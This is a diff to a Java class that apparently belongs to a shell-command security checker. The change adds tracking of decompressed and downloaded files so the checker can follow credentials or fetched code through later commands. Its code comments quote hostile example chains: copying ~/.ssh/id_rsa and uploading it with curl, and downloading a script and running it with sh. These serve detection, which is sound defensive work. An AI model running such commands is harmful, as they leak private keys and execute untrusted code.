@@ -1722,6 +1722,19 @@ public final class Cmd {
                     out.add(o);
                 }
             }
+            // a decompressor writes each FILE.gz back as FILE (`gunzip i.sh.gz && sh i.sh`)
+            case "gunzip", "bunzip2", "unxz", "unlzma", "unzstd", "uncompress", "gzip", "bzip2", "xz", "lzma", "zstd", "pigz",
+                    "pbzip2", "lz4", "brotli", "compress" -> {
+                boolean decompresses = named("gunzip bunzip2 unxz unlzma unzstd uncompress")
+                        || anyFlag("-d --decompress --uncompress");
+                if (decompresses && !anyFlag("-c --stdout --to-stdout -l --list -t --test")) {
+                    for (String f : positionals("-S --suffix -b -T --threads -p --processes -o --output")) {
+                        String plain = Regex.pattern("(?i)\\.(gz|z|bz2|xz|lzma|zst|lz4|br)$").matcher(f).replaceFirst("");
+                        out.add(plain.equals(f) && f.toLowerCase(java.util.Locale.ROOT).endsWith(".tgz")
+                                ? f.substring(0, f.length() - 4) + ".tar" : plain);
+                    }
+                }
+            }
             // screenshots: the picture file is the last operand (or -f/-out/-o), its content a secret read (SW4104)
             case "screencapture", "scrot", "grim", "maim", "import" -> {
                 List<String> ops = positionals(SCREENSHOT_VALUES.get(name));
@@ -4402,11 +4415,13 @@ public final class Cmd {
     }
 
     /**
-     * True when this command names a file {@code writer} writes or a folder holding one: as an argument, an option's value ({@code --opt=FILE},
+     * True when this command names a file {@code writer} writes or downloads, or a folder holding
+     * one (or a file in a folder it downloads): as an argument, an option's value ({@code --opt=FILE},
      * {@code -d@FILE}, {@code field=@FILE}, {@code -T FILE}) or its standard input. What it reads
-     * or sends may be what {@code writer} put there, so a credential {@code writer} read travels
-     * on through the file ({@code cp ~/.ssh/id_rsa /tmp/k; curl -F f=@/tmp/k URL}). Paths the
-     * text does not tell ({@link PathFacts#resolveKnown}) and devices are not followed.
+     * or sends may be what {@code writer} put there, so a credential {@code writer} read, or code
+     * it downloaded or decoded, travels on through the file ({@code cp ~/.ssh/id_rsa /tmp/k; curl
+     * -F f=@/tmp/k URL}, {@code curl -o a URL && cp a b && sh b}). Paths the text does not tell
+     * ({@link PathFacts#resolveKnown}) and devices are not followed.
      */
     public boolean readsFileWrittenBy(Cmd writer, Ctx ctx) {
         if (writer.named("chmod chown chgrp chattr setfacl touch mkdir")) {
@@ -4414,14 +4429,10 @@ public final class Cmd {
         }
         String cwd = ctx.cwdOrProject();
         String home = ctx.home();
-        List<String> written = new ArrayList<>();
-        for (String w : writer.getWriteTargets()) {
-            String abs = PathFacts.resolveKnown(w, cwd, home);
-            if (abs != null && !abs.equals("/") && !abs.startsWith("/dev/") && !abs.startsWith("/proc/")) {
-                written.add(abs);
-            }
-        }
-        if (written.isEmpty()) {
+        List<String> written = knownFiles(writer.getWriteTargets(), cwd, home);
+        // a download's folder (`git clone URL x`, `wget -P dir URL`) holds nothing but what it fetched
+        List<String> fetched = knownFiles(writer.fetchedFiles(), cwd, home);
+        if (written.isEmpty() && fetched.isEmpty()) {
             return false;
         }
         List<String> named = new ArrayList<>(redirectReads);
@@ -4439,15 +4450,33 @@ public final class Cmd {
             if (abs == null) {
                 continue;
             }
+            String folder = abs.equals("/") ? "/" : abs + "/";
             for (String w : written) {
                 // not a path below a written folder: `cp KEY .` lists `.` beside `./KEY`, and
                 // everything in the project is below `.`
-                if (abs.equals(w) || w.startsWith(abs.equals("/") ? "/" : abs + "/")) {
+                if (abs.equals(w) || w.startsWith(folder)) {
+                    return true;
+                }
+            }
+            for (String f : fetched) {
+                if (abs.equals(f) || f.startsWith(folder) || abs.startsWith(f + "/")) {
                     return true;
                 }
             }
         }
         return false;
+    }
+
+    /** The absolute paths of {@code paths} the text tells, without the root, devices and /proc. */
+    private static List<String> knownFiles(List<String> paths, String cwd, String home) {
+        List<String> out = new ArrayList<>();
+        for (String p : paths) {
+            String abs = PathFacts.resolveKnown(p, cwd, home);
+            if (abs != null && !abs.equals("/") && !abs.startsWith("/dev/") && !abs.startsWith("/proc/")) {
+                out.add(abs);
+            }
+        }
+        return out;
     }
 
     /** True when {@code other} writes the file this command then runs. */
